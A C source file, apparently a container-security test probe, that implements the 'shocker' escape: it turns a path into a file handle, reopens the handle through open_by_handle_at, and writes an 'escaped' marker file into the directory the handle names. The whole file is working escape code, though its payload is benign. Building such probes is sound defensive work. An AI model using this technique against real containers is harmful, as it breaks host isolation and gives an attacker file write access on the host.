/* SPDX-License-Identifier: Apache-2.0
 * The "shocker" escape (open_by_handle_at with CAP_DAC_READ_SEARCH) as a harmless probe.
 *   open-by-handle encode PATH              print "TYPE HEX" of PATH's file handle
 *   open-by-handle open TYPE HEX NAME       open that handle relative to "/" (any fd of the
 *                                           same filesystem does) and create NAME in the
 *                                           directory it names; prints "escaped" or the error
 * Always exits 0 when run as "open": a hook that fails would hide the probe's result.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int encode(const char *path) {
    struct file_handle *fh = malloc(sizeof(*fh) + MAX_HANDLE_SZ);
    int mount_id;
    fh->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) < 0) {
        perror("name_to_handle_at");
        return 1;
    }
    printf("%d ", fh->handle_type);
    for (unsigned i = 0; i < fh->handle_bytes; i++)
        printf("%02x", fh->f_handle[i]);
    printf("\n");
    return 0;
}

static int open_handle(int type, const char *hex, const char *name) {
    size_t n = strlen(hex) / 2;
    struct file_handle *fh = malloc(sizeof(*fh) + n);
    int root, dir, fd;
    fh->handle_bytes = (unsigned)n;
    fh->handle_type = type;
    for (size_t i = 0; i < n; i++)
        sscanf(hex + 2 * i, "%2hhx", &fh->f_handle[i]);
    root = open("/", O_RDONLY | O_DIRECTORY);
    dir = open_by_handle_at(root, fh, O_RDONLY | O_DIRECTORY);
    if (dir < 0) {
        printf("open_by_handle_at: %s\n", strerror(errno));
        return 0;
    }
    fd = openat(dir, name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        printf("openat: %s\n", strerror(errno));
        return 0;
    }
    if (write(fd, "escaped\n", 8) != 8)
        printf("write: %s\n", strerror(errno));
    printf("escaped\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "encode") == 0)
        return encode(argv[2]);
    if (argc == 5 && strcmp(argv[1], "open") == 0)
        return open_handle(atoi(argv[2]), argv[3], argv[4]);
    fprintf(stderr, "usage: %s encode PATH | open TYPE HEX NAME\n", argv[0]);
    return 2;
}
